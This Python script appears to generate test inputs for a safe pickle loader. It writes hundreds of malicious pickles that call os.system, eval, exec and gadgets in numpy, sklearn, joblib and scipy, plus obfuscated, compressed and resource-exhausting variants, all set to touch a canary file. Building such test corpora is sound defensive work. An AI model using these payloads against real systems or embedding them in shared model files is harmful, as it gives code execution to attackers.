"""
Writes pickles that try to run code when they are loaded, in every protocol and compression, and a few that are broken or too large.

Usage: python attacks.py FOLDER CANARY. Loading any of them carelessly creates the file CANARY (or ends in ruin). Prints the names.
"""

import bz2
import codecs
import gzip
import io
import lzma
import os
import pickle
import struct
import sys
import zlib

folder, canary = sys.argv[1], sys.argv[2]
command = f"touch {canary}"


class Call:
    """Pickles as a call of a function by its name."""

    def __init__(self, module, name, *args):
        self.module, self.name, self.args = module, name, args


def text(value):
    return b"V" + value.encode("raw_unicode_escape") + b"\n"


def by_hand(module, name, *args):
    """GLOBAL, MARK, arguments, TUPLE, REDUCE, STOP: protocol 0 as no library would write it."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n(" + b"".join(text(one) for one in args) + b"tR."


def stack_global(module, name, *args):
    def short(value):
        raw = value.encode()
        return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw

    return b"\x80\x04" + short(module) + short(name) + b"\x93(" + b"".join(short(one) for one in args) + b"tR."


written = {}
CALLS = {
    "os-system": ("os", "system", command),
    "posix-system": ("posix", "system", command),
    "nt-system": ("nt", "system", command),
    "popen": ("os", "popen", command),
    "subprocess": ("subprocess", "getoutput", command),
    "check-output": ("subprocess", "check_output", "touch"),
    "eval": ("builtins", "eval", f"__import__('os').system({command!r})"),
    "exec": ("builtins", "exec", f"import os; os.system({command!r})"),
    "old-eval": ("__builtin__", "eval", f"__import__('os').system({command!r})"),
    "import": ("builtins", "__import__", "antigravity"),
    "getattr": ("builtins", "getattr", "x", "y"),
    "open": ("builtins", "open", canary, "w"),
    "breakpoint": ("builtins", "breakpoint"),
    "runpy": ("runpy", "run_path", canary),
    "importlib": ("importlib", "import_module", "os"),
    "pty": ("pty", "spawn", "touch"),
    "timeit": ("timeit", "timeit", f"import os; os.system({command!r})"),
    "profile": ("cProfile", "run", f"import os; os.system({command!r})"),
    "bdb": ("bdb", "Bdb", "x"),
    "code": ("code", "interact"),
    "ctypes": ("ctypes", "CDLL", "libc.so.6"),
    "socket": ("socket", "create_connection", "x"),
    "urllib": ("urllib.request", "urlopen", "http://127.0.0.1:9/"),
    "shutil": ("shutil", "rmtree", "/nowhere"),
    "webbrowser": ("webbrowser", "open", "http://127.0.0.1:9/"),
    "pickle-loads": ("pickle", "loads", "x"),
    "marshal": ("marshal", "loads", "x"),
    "operator": ("operator", "attrgetter", "system"),
    "methodcaller": ("operator", "methodcaller", "system", command),
    "types-function": ("types", "FunctionType", "x"),
    "types-code": ("types", "CodeType", "x"),
    "logging": ("logging.config", "listen"),
    "numpy-load": ("numpy", "load", canary),
    "numpy-testing": ("numpy.testing._private.utils", "runstring", f"import os; os.system({command!r})"),
    "numpy-f2py": ("numpy.f2py.diagnose", "run"),
    "numpy-dotted": ("numpy", "f2py.os.system", command),
    "sklearn-dotted": ("sklearn.utils", "os.system", command),
    "sklearn-datasets": ("sklearn.datasets", "fetch_openml", "iris"),
    "sklearn-externals": ("sklearn.externals.joblib", "load", canary),
    "sklearn-dunder": ("sklearn.base", "__import__", "os"),
    "sklearn-function": ("sklearn.utils.validation", "has_fit_parameter", "x"),
    "joblib-load": ("joblib", "load", canary),
    "joblib-externals": ("joblib.externals.loky.backend.popen_loky_posix", "Popen", "x"),
    "joblib-memory": ("joblib.memory", "Memory", "x"),
    "pandas-pickle": ("pandas.io.pickle", "read_pickle", canary),
    "pandas-eval": ("pandas", "eval", "1"),
    "cloudpickle": ("cloudpickle.cloudpickle", "_builtin_type", "CodeType"),
    "dill": ("dill._dill", "_create_code", "x"),
    "torch": ("torch.hub", "load", "x"),
    "partial-of-system": ("functools", "partial.__call__", "os"),
    "reduce-list": ("functools", "reduce", "x", "y"),
    "getitem": ("operator", "getitem", "x", "y"),
    "itemgetter": ("operator", "itemgetter", "x"),
    "copyreg-extension": ("copyreg", "add_extension", "os", "system", "7"),
    "copyreg-newobj": ("copyreg", "__newobj__", "x"),
    "globals": ("builtins", "globals"),
    "vars": ("builtins", "vars"),
    "setattr": ("builtins", "setattr", "x", "y", "z"),
    "compile": ("builtins", "compile", "1", "x", "eval"),
    "input": ("builtins", "input"),
    "memoryview": ("builtins", "memoryview", "x"),
    "type": ("builtins", "type", "x"),
    "map": ("builtins", "map", "x", "y"),
    "builtins-alias": ("numpy.compat.py3k", "builtins.eval", "1"),
    "numpy-apply": ("numpy", "apply_along_axis", "x"),
    "numpy-vectorize": ("numpy", "vectorize", "x"),
    "numpy-frompyfunc": ("numpy", "frompyfunc", "x"),
    "numpy-memmap": ("numpy", "memmap", canary),
    "numpy-fromfile": ("numpy", "fromfile", canary),
    "numpy-savetxt": ("numpy", "savetxt", canary, "1"),
    "numpy-tofile": ("numpy", "ndarray.tofile", canary),
    "numpy-datasource": ("numpy", "DataSource", "/tmp"),
    "numpy-genfromtxt": ("numpy", "genfromtxt", canary),
    "numpy-lib-format": ("numpy.lib.format", "open_memmap", canary),
    "numpy-npyio": ("numpy.lib.npyio", "load", canary),
    "numpy-ctypes": ("numpy.ctypeslib", "load_library", "x", "y"),
    "numpy-distutils": ("numpy.distutils.exec_command", "exec_command", command),
    "numpy-linalg-inner": ("numpy.linalg.linalg", "os.system", command),
    "scipy-io": ("scipy.io", "loadmat", canary),
    "scipy-stats": ("scipy.stats._continuous_distns", "norm_gen"),
    "scipy-stats-root": ("scipy.stats", "rv_continuous", "1"),
    "scipy-callable": ("scipy._lib._ccallback", "LowLevelCallable", "x"),
    "pandas-query": ("pandas.core.computation.eval", "eval", "1"),
    "pandas-csv": ("pandas", "read_csv", canary),
    "joblib-parallel": ("joblib.parallel", "Parallel", "2"),
    "joblib-store": ("joblib._store_backends", "FileSystemStoreBackend"),
    "joblib-old-arrays": ("joblib.numpy_pickle", "NDArrayWrapper", "x", "y"),
    "joblib-old-packed": ("joblib.numpy_pickle", "ZNDArrayWrapper", "x", "y"),
    "joblib-compat": ("joblib.numpy_pickle_compat", "load_compatibility", canary),
    "joblib-memmap": ("joblib.numpy_pickle", "load_temporary_memmap", canary, "r", ""),
    "sklearn-joblib": ("sklearn.utils._joblib", "joblib", "x"),
    "sklearn-parallel": ("sklearn.utils.parallel", "Parallel", "2"),
    "sklearn-testing": ("sklearn.utils._testing", "TempMemmap", "x"),
    "sklearn-tests": ("sklearn.tests.test_base", "MyEstimator"),
    "sklearn-openml": ("sklearn.datasets._openml", "_open_openml_url", "http://127.0.0.1:9/"),
    "sklearn-load-files": ("sklearn.datasets", "load_files", "/etc"),
    "sklearn-svmlight": ("sklearn.datasets", "load_svmlight_file", canary),
    "sklearn-versions": ("sklearn.utils._show_versions", "show_versions"),
    "sklearn-build": ("sklearn._build_utils", "cythonize_extensions"),
    "sklearn-mock": ("sklearn.utils._mocking", "CheckingClassifier"),
    "sklearn-getattr": ("sklearn.base", "__dict__", "x"),
    "xgboost-load": ("xgboost.core", "_load_lib"),
    "xgboost-dask": ("xgboost.dask", "DaskDMatrix", "x"),
    "lightgbm-library": ("lightgbm.libpath", "_find_lib_path"),
    "skops-load": ("skops.io", "load", canary),
    "onnx-load": ("onnx", "load", canary),
    "encodings": ("encodings", "search_function", "x"),
    "zipimport": ("zipimport", "zipimporter", canary),
    "site": ("site", "addsitedir", "/tmp"),
    "pkgutil": ("pkgutil", "resolve_name", "os:system"),
    "pydoc": ("pydoc", "locate", "os.system"),
    "unittest-mock": ("unittest.mock", "patch", "os.system"),
    "doctest": ("doctest", "debug_script", "1"),
    "trace": ("trace", "Trace"),
    "tool": ("tool", "load_framework", "../../x"),
    "unpickle": ("unpickle", "load_pickle", canary),
    "allowlist": ("allowlist", "_EXACT"),
    "ctypes-pythonapi": ("ctypes", "pythonapi.PyRun_SimpleString", "1"),
    "multiprocessing": ("multiprocessing.util", "spawnv_passfds", "touch"),
    "concurrent": ("concurrent.futures", "ThreadPoolExecutor", "1"),
    "asyncio": ("asyncio.subprocess", "create_subprocess_shell", command),
    "sqlite": ("sqlite3", "connect", canary),
    "dbm": ("dbm.dumb", "open", canary),
    "shelve": ("shelve", "open", canary),
    "tarfile": ("tarfile", "open", canary),
    "http": ("http.client", "HTTPConnection", "127.0.0.1"),
    "smtplib": ("smtplib", "SMTP", "127.0.0.1"),
    "ensurepip": ("ensurepip", "_run_pip", "x"),
    "idle": ("idlelib.pyshell", "main"),
    "lib2to3": ("lib2to3.pgen2.grammar", "Grammar.loads", "x"),
    "dotted-path": ("sklearn.utils", "__builtins__.eval", "1"),
    "relative": (".os", "system", command),
    "file-path": ("/tmp/evil", "x"),
    "unknown-package": ("somebodys_package.models", "Estimator", "x"),
    "main-class": ("__main__", "MyModel"),
}
for name, (module, function, *args) in CALLS.items():
    written[f"hand-{name}"] = by_hand(module, function, *args)
    written[f"stack-{name}"] = stack_global(module, function, *args)


class Reduced:
    def __reduce__(self):
        return os.system, (command,)


class Nested:
    """A state that calls when it is set."""

    def __reduce__(self):
        return (list, (), None, iter([Reduced()]))


for protocol in range(6):
    written[f"reduce-{protocol}"] = pickle.dumps(Reduced(), protocol)
    written[f"in-dict-{protocol}"] = pickle.dumps({"model": [1, (Reduced(),)]}, protocol)
    written[f"iterated-{protocol}"] = pickle.dumps(Nested(), protocol)
plain = pickle.dumps({"model": Reduced()}, 4)
for name, packed in {"zlib": zlib.compress(plain), "gzip": gzip.compress(plain), "bz2": bz2.compress(plain), "xz": lzma.compress(plain), "lzma": lzma.compress(plain, lzma.FORMAT_ALONE)}.items():
    written[f"packed-{name}"] = packed
written["inst"] = b"(S'" + command.encode() + b"'\nios\nsystem\n."
written["obj"] = b"(cos\nsystem\nS'" + command.encode() + b"'\no."
written["newobj-ex"] = b"\x80\x04cos\nsystem\n(" + text(command) + b"t}\x92."
written["proto-in-middle"] = b"\x80\x04N0\x80\x02" + by_hand("os", "system", command)
written["memo"] = b"\x80\x04cos\nsystem\n\x94h\x00(" + text(command) + b"tR."
written["put-get"] = b"cos\nsystem\np7\ng7\n(" + text(command) + b"tR."
written["extension"] = b"\x80\x02\x82\x01)R."
written["persistent"] = b"Pos\n."
written["pop-mark"] = b"(NNN1" + by_hand("os", "system", command)
written["frame"] = b"\x80\x04\x95" + struct.pack("<Q", 200) + by_hand("os", "system", command) + b"\x00" * 200
written["name-with-space"] = stack_global("os ", "system", command)
written["name-with-nul"] = stack_global("os\x00", "system", command)
written["unicode-name"] = stack_global("оs", "system", command)
written["twice-nested"] = pickle.dumps({"inner": pickle.dumps(Reduced(), 4)}, 4) + plain
written["build-on-module"] = b"\x80\x02csys\nmodules\n}U\x02osNsb."
written["setitem-on-dict"] = b"\x80\x02cbuiltins\n__dict__\nU\x04evalNs."
written["array-then-call"] = (
    b"\x80\x04\x95\x00\x00\x00\x00\x00\x00\x00\x00" + by_hand("joblib.numpy_pickle", "NumpyArrayWrapper") [:-1] + b"0" + by_hand("os", "system", command)
)


def object_array():
    """joblib writes arrays of objects as pickles inside: the careless loader reads those without its checks."""
    head = pickle.dumps(None, 4)[:2]
    wrapper = b"\x80\x04\x8c\x13joblib.numpy_pickle\x8c\x11NumpyArrayWrapper\x93)\x81}(\x8c\x08subclass\x8c\x05numpy\x8c\x07ndarray\x93\x8c\x05shapeK\x01\x85\x8c\x05order\x8c\x01C\x8c\x05dtype\x8c\x05numpy\x8c\x05dtype\x93\x8c\x02O8\x89\x88\x87R\x8c\x0aallow_mmap\x89ub"
    return wrapper + plain + b"."


written["object-array"] = object_array()


# What the names on the list could be turned to: seen to run code, or to change the library, before the loader looked at it.
def named(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def state(*pairs):
    return b"}(" + b"".join(text(key) + value for key, value in pairs) + b"u"


code = f"import os; os.system({command!r})"
old_array = state(("filename", text("beside.npy")), ("subclass", named("numpy", "ndarray")), ("allow_mmap", b"\x89"))
written["array-in-another-file"] = b"\x80\x02" + named("copyreg", "_reconstructor") + b"(" + named("joblib.numpy_pickle", "NDArrayWrapper") + named("builtins", "object") + b"NtR" + old_array + b"b."
written["array-made-by-newobj"] = b"\x80\x02" + named("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81" + old_array + b"b."
written["array-wrapper-reconstructed"] = (
    b"\x80\x02" + named("copyreg", "_reconstructor") + b"(" + named("joblib.numpy_pickle", "NumpyArrayWrapper") + named("builtins", "object") + b"NtR" + object_array()[2:].split(b")\x81", 1)[1]
)
for name, module in {"norm_gen": "scipy.stats._continuous_distns", "randint_gen": "scipy.stats._discrete_distns", "rv_continuous": "scipy.stats._distn_infrastructure"}.items():
    for how, opened in {"reduce": b")R", "newobj": b")\x81"}.items():
        written[f"distribution-{name}-{how}"] = b"\x80\x02" + named(module, name) + opened + state(("_parse_arg_template", text(code))) + b"b."
written["distribution-of-pairs"] = b"\x80\x02" + named("scipy.stats._continuous_distns", "norm_gen") + b")R](" + text("_parse_arg_template") + text(code) + b"\x86eb."
written["changes-a-class"] = b"\x80\x02" + named("sklearn.tree._classes", "DecisionTreeClassifier") + b"N" + state(("predict", named("builtins", "list"))) + b"\x86b."
written["changes-a-class-without-setstate"] = b"\x80\x02" + named("sklearn.utils._bunch", "Bunch") + b"N" + state(("keys", named("builtins", "list"))) + b"\x86b."
written["changes-a-function"] = b"\x80\x02" + named("sklearn.metrics._classification", "accuracy_score") + b"N" + state(("__defaults__", b")")) + b"\x86b."
written["changes-a-ufunc"] = b"\x80\x02" + named("numpy", "log1p") + state(("__name__", text("x"))) + b"b."
written["changes-a-table"] = b"\x80\x02" + named("sklearn.metrics.pairwise", "PAIRWISE_KERNEL_FUNCTIONS") + text("rbf") + named("builtins", "list") + b"s."
written["joblib-0.9"] = b"ZF" + f"{len(plain):#x}".encode().ljust(19) + zlib.compress(plain)
written["partial-of-eval"] = b"\x80\x02" + named("functools", "partial") + b"(" + named("builtins", "eval") + text(code) + b"tR."
written["partial-state"] = b"\x80\x02" + named("functools", "partial") + b"(" + named("builtins", "list") + b"tR(" + named("os", "system") + b"(" + text(command) + b"t}Ntb."
written["transformer-of-system"] = b"\x80\x02" + named("sklearn.preprocessing._function_transformer", "FunctionTransformer") + b")\x81" + state(("func", named("os", "system"))) + b"b."
written["vectorizer-of-eval"] = b"\x80\x02" + named("sklearn.feature_extraction.text", "CountVectorizer") + b")\x81" + state(("tokenizer", named("builtins", "eval"))) + b"b."
written["scorer-of-system"] = b"\x80\x02" + named("sklearn.metrics._scorer", "_Scorer") + b"(" + named("posix", "system") + b"I1\n}tR."
written["memory-of-pipeline"] = b"\x80\x02" + named("sklearn.pipeline", "Pipeline") + b")\x81" + state(("memory", named("joblib.memory", "Memory"))) + b"b."
written["default-factory"] = b"\x80\x02" + named("collections", "defaultdict") + named("os", "getcwd") + b"\x85R."
written["generator-constructor"] = b"\x80\x02" + named("numpy.random._pickle", "__generator_ctor") + b"(" + text("MT19937") + named("os", "system") + b"tR."
written["after-stop-of-memo-bomb"] = b"\x80\x04" + b"]q\x00" + b"(h\x00h\x00l0" * 2000 + by_hand("os", "system", command)
written["deep"] = b"\x80\x04" + b"(" * 100_000 + b"t" * 100_000 + b"."
written["long-name"] = b"\x80\x02c" + b"a" * 100_000 + b"\n" + b"b" * 100_000 + b"\n)R."
written["thousands-of-names"] = b"\x80\x02" + b"".join(named(f"package{i}", "Name") + b"0" for i in range(5000)) + by_hand("os", "system", command)
written["names-behind-a-gap"] = b"\x80\x02" + text("x" * (1 << 20)) + b"0" + by_hand("os", "system", command)
for protocol in range(6):
    for name, packed in {"zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}.items():
        written[f"packed-{name}-{protocol}"] = packed(pickle.dumps([Reduced()], protocol))


def beside():
    """An array of objects in a file of its own, which NumPy reads as a pickle."""
    head = b"\x93NUMPY\x01\x00"
    words = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
    return head + struct.pack("<H", len(words)) + words + plain


with open(os.path.join(folder, "..", "beside.npy"), "wb") as file:
    file.write(beside())
for name, data in list(written.items()):
    with open(os.path.join(folder, name), "wb") as file:
        file.write(data)
print("\n".join(written))
